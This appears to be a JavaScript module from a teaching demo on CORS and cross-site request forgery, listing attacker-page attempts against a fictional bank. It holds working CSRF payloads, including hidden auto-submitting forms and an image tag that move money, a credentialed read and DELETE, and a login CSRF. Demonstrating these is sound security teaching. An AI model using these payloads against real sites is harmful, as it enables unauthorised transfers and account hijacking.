// What the attackers' pages try. The code that a page shows is the source of the very function that it runs: `bank` is the
// API's origin, `stage` a hidden part of the page.

export const attempts = [
  {
    id: "read",
    goal: "Read data",
    title: "Read the balance",
    says: "A script asks for Ada’s account, with her cookie, and looks at the answer.",
    asks: "GET /accounts/ada",
    async run(bank) {
      const answer = await fetch(`${bank}/accounts/ada`, {
        credentials: "include",
      });
      return answer.text();
    },
  },
  {
    id: "fetch",
    goal: "Write data",
    title: "Transfer by fetch",
    says: "A body as forms have it needs no preflight: the browser sends it at once, and only then looks for CORS headers.",
    asks: "POST /transfers",
    async run(bank) {
      const answer = await fetch(`${bank}/transfers`, {
        method: "POST",
        credentials: "include",
        headers: { "content-type": "application/x-www-form-urlencoded" },
        body: "to=mallory&amount=100",
      });
      return answer.text();
    },
  },
  {
    id: "form",
    goal: "Write data",
    title: "Transfer by form",
    says: "A hidden form posts itself into a hidden frame. No script reads anything, so CORS does not even come into it.",
    asks: "POST /transfers",
    blind: "nothing: the answer opens in a frame of the bank’s origin, which this page cannot look into.",
    run(bank, stage) {
      stage.innerHTML = `
        <iframe name="unseen"></iframe>
        <form method="POST" action="${bank}/transfers" target="unseen">
          <input name="to" value="mallory">
          <input name="amount" value="100">
        </form>`;
      stage.querySelector("form").submit();
    },
  },
  {
    id: "form-top",
    goal: "Write data",
    title: "Transfer by form, in a tab of its own",
    says: "The same form at top level. Here the bank is no third party, so rules about third-party cookies do not help. It needs a click, and opens a tab.",
    asks: "POST /transfers",
    byHand: true,
    blind: "nothing: the answer opens in another tab.",
    run(bank, stage) {
      stage.innerHTML = `
        <form method="POST" action="${bank}/transfers" target="_blank">
          <input name="to" value="mallory">
          <input name="amount" value="100">
        </form>`;
      stage.querySelector("form").submit();
    },
  },
  {
    id: "image",
    goal: "Write data",
    title: "Transfer by image",
    says: "The bank has a legacy: a GET that moves money. So an image’s address is enough; it would work in a forum post.",
    asks: "GET /transfers/quick",
    blind: "an image that does not load.",
    run(bank, stage) {
      const image = document.createElement("img");
      image.src = `${bank}/transfers/quick?to=mallory&amount=100`;
      stage.append(image);
    },
  },
  {
    id: "delete",
    goal: "Delete data",
    title: "Delete a payee",
    says: "No form can send DELETE, so the browser asks first, with a preflight. Whoever answers it yes to everybody has given that away.",
    asks: "DELETE /payees/${payee}",
    async run(bank, stage, payee) {
      const answer = await fetch(`${bank}/payees/${payee}`, {
        method: "DELETE",
        credentials: "include",
      });
      return answer.text();
    },
  },
  {
    id: "sign-in",
    goal: "Change who is signed in",
    title: "Sign Ada in as Mallory",
    says: "With Mallory’s own password. What Ada enters at the bank from then on, she enters into Mallory’s account. Try it last, and sign in as Ada again.",
    asks: "POST /login",
    apart: true,
    blind: "nothing: the answer opens in a frame of the bank’s origin, which this page cannot look into.",
    run(bank, stage) {
      stage.innerHTML = `
        <iframe name="unseen"></iframe>
        <form method="POST" action="${bank}/login" target="unseen">
          <input name="user" value="mallory">
          <input name="password" value="malice">
        </form>`;
      stage.querySelector("form").submit();
    },
  },
  {
    id: "rates",
    goal: "Read public data",
    title: "Read the rates",
    says: "No attack: the bank means them for everybody. The gate lets them be read by any page, and takes cookies off.",
    asks: "GET /rates",
    open: true,
    async run(bank) {
      const answer = await fetch(`${bank}/rates`);
      return answer.text();
    },
  },
];

/** The body of the function that an attempt runs, as it stands in this file. */
export function sourceOf({ run }, payee) {
  const lines = run.toString().split("\n").slice(1, -1);
  const indent = Math.min(...lines.map((line) => line.search(/\S/)));
  return lines
    .map((line) => line.slice(indent))
    .join("\n")
    .replaceAll("${payee}", payee);
}
